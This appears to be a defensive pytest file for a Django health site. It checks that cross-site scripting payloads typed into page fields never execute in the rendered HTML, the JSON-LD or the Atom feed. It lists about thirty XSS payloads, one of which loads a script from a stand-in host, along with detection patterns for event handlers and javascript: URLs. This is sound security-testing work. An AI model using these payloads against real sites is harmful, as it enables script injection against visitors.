"""Hostile text saved into a page never runs on the public pages, in its HTML, JSON-LD or feed.

Each payload goes through the publishing service into one field of a live page; the pages that
show the field are then read back as a browser would read them. Oscar's layout has scripts
and one onclick of its own, so a page is compared with the same page holding harmless text:
the payload may add nothing that runs.
"""

import datetime
import html
import json
import re
import xml.etree.ElementTree as ET

import pytest
from bs4 import BeautifulSoup
from django.core.cache import cache
from django.utils import timezone

from content import services
from content.models import Article, ConditionPage, Status
from tests.content_factories import CitationFactory

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">click</a>',
    '<a href="&#x6A;&#x61;vascript&#x3A;alert(1)">click</a>',
    '<a href="java&#09;script:alert(1)">click</a>',
    '<a href=" javascript:alert(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<div style="width: expression(alert(1))">styled</div>',
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<body onload=alert(1)>",
    "<img src=x onerror=alert(1)",
    "<<script>script>alert(1)<</script>/script>",
    '"><script>alert(1)</script>',
    "' onmouseover='alert(1)",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>",
    '<object data="data:text/html,<script>alert(1)</script>"></object>',
    '<form action="javascript:alert(1)"><button formaction="javascript:1">go</button></form>',
    '<a href="https://example.org/" onclick="alert(1)">allowed tag</a>',
    "<!--<script>alert(1)</script>-->",
    "<details open ontoggle=alert(1)>",
    "</script><script>alert(1)</script>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
]

#: Attributes that hold an address a browser may follow or load.
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "data", "poster", "background", "cite"}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:")
#: Browsers drop these from an address before reading its scheme.
IGNORED_IN_URLS = re.compile(r"[\x00-\x20]")
#: A start tag with an on* attribute, read without a parser: quoted values are skipped whole.
RAW_HANDLER = re.compile(
    r"""<[a-z][^\s/>]*(?:\s+[^\s=>]+(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s"'>]+))?)*?\s+on[a-z]+\s*=""",
    re.IGNORECASE,
)

ARTICLE_FIELDS = ["title", "summary", "body"]
CONDITION_FIELDS = ["title", "summary", "body", "mechanism"]


@pytest.fixture(autouse=True)
def fresh_cache():
    cache.clear()


def value_for(field: str, payload: str) -> str:
    """Return ``payload`` as ``field`` holds it: the body keeps words so it can be published."""
    if field in {"body", "mechanism"}:
        return f"<p>Opening words.</p>{payload}<p>Closing words.</p>"
    return payload


def publish(page, **fields):
    """Save ``page`` live with ``fields``, through the publishing service as an import would."""
    for name, value in fields.items():
        setattr(page, name, value)
    page.status = Status.PUBLISHED
    page.publish_at = timezone.now() - datetime.timedelta(hours=1)
    page.first_published_at = page.last_published_at = page.publish_at
    return services.page_save(page=page, skip_permission_checks=True, citations=[CitationFactory()])


def make_article(slug: str, **fields) -> Article:
    defaults = {
        "title": "A harmless title",
        "summary": "A harmless summary.",
        "body": "<p>Harmless words.</p>",
        "byline": "Jo Writer",
    }
    return publish(Article(slug=slug), **{**defaults, **fields})


def make_condition_page(slug: str, **fields) -> ConditionPage:
    defaults = {
        "title": "A harmless condition",
        "summary": "A harmless summary.",
        "body": "<p>Harmless words.</p>",
        "mechanism": "<p>Harmless mechanism.</p>",
        "reviewed_by": "A. Reviewer, MPharm",
        "reviewed_on": timezone.localdate() - datetime.timedelta(days=3),
    }
    return publish(ConditionPage(slug=slug), **{**defaults, **fields})


def what_runs(page_html: str) -> dict:
    """Return what in ``page_html`` a browser would run or follow, apart from JSON-LD."""
    document = BeautifulSoup(page_html, "html.parser")
    scripts, handlers, addresses, styles = [], [], [], []
    for tag in document.find_all(True):
        if tag.name == "script" and tag.get("type") != "application/ld+json":
            scripts.append((tag.get("src"), tag.string))
        if tag.name in {"style", "iframe", "object", "embed", "base", "form"}:
            styles.append((tag.name, tag.get("action") or tag.get("src") or tag.get("data")))
        for name, value in tag.attrs.items():
            text = " ".join(value) if isinstance(value, list) else (value or "")
            name = name.lower()
            if name.startswith("on"):
                handlers.append((tag.name, name, text))
            if name == "style":
                styles.append((tag.name, text))
            if name in URL_ATTRIBUTES or (name == "content" and tag.has_attr("http-equiv")):
                address = IGNORED_IN_URLS.sub("", html.unescape(text)).lower()
                if address.startswith(BAD_SCHEMES) or "url=javascript:" in address:
                    addresses.append((tag.name, name, text))
    return {
        "scripts": scripts,
        "handlers": handlers,
        "addresses": addresses,
        "styles and frames": styles,
        "raw script tags": len(re.findall(r"<script\b", page_html, re.IGNORECASE)),
        "raw handlers": len(RAW_HANDLER.findall(page_html)),
    }


def json_ld_blocks(page_html: str) -> list[dict]:
    document = BeautifulSoup(page_html, "html.parser")
    return [
        json.loads(script.string)
        for script in document.find_all("script", type="application/ld+json")
    ]


def assert_runs_nothing_more(client, url: str, baseline_url: str) -> str:
    page = client.get(url)
    baseline = client.get(baseline_url)
    assert page.status_code == baseline.status_code == 200
    page_html, baseline_html = page.content.decode(), baseline.content.decode()
    ld_blocks = len(json_ld_blocks(page_html))
    assert ld_blocks == len(json_ld_blocks(baseline_html))
    found, expected = what_runs(page_html), what_runs(baseline_html)
    assert found["addresses"] == [], url
    assert found == expected, url
    return page_html


def article_feed_summaries(client) -> list[str]:
    """Return each entry's summary as a feed reader renders it: as HTML."""
    root = ET.fromstring(client.get("/articles/feed/").content)  # noqa: S314  (our own feed)
    return [
        summary.text or ""
        for summary in root.iter("{http://www.w3.org/2005/Atom}summary")
        if summary.get("type") == "html"
    ]


@pytest.mark.parametrize("field", ARTICLE_FIELDS)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_an_article_runs_nothing_that_was_typed_into_it(client, payload, field):
    make_article("harmless")
    article = make_article("hostile", **{field: value_for(field, payload)})

    page_html = assert_runs_nothing_more(client, article.get_absolute_url(), "/articles/harmless/")
    assert_runs_nothing_more(client, "/articles/", "/articles/")

    (data,) = json_ld_blocks(page_html)
    if field == "title":
        assert data["headline"] == payload[:110]
    for summary in article_feed_summaries(client):
        assert "<" not in summary, summary


@pytest.mark.parametrize("field", CONDITION_FIELDS)
@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_condition_page_runs_nothing_that_was_typed_into_it(client, payload, field):
    make_condition_page("harmless")
    page = make_condition_page("hostile", **{field: value_for(field, payload)})

    page_html = assert_runs_nothing_more(client, page.get_absolute_url(), "/conditions/harmless/")
    assert_runs_nothing_more(client, "/conditions/", "/conditions/")

    (data,) = json_ld_blocks(page_html)
    if field == "title":
        assert data["name"] == payload
        assert data["about"]["name"] == payload


def test_a_title_cannot_close_the_json_ld_script(client):
    title = '</script><script>alert("out")</script><!--'
    page = make_condition_page("breakout", title=title, reviewed_by="</script><b>x</b>")

    page_html = client.get(page.get_absolute_url()).content.decode()

    block = page_html.split('<script type="application/ld+json">', 1)[1].split("</script>", 1)[0]
    assert "<" not in block and ">" not in block
    data = json.loads(block)
    assert data["name"] == title
    assert data["reviewedBy"]["name"] == "</script><b>x</b>"
    assert 'alert("out")</script>' not in page_html.replace(block, "")
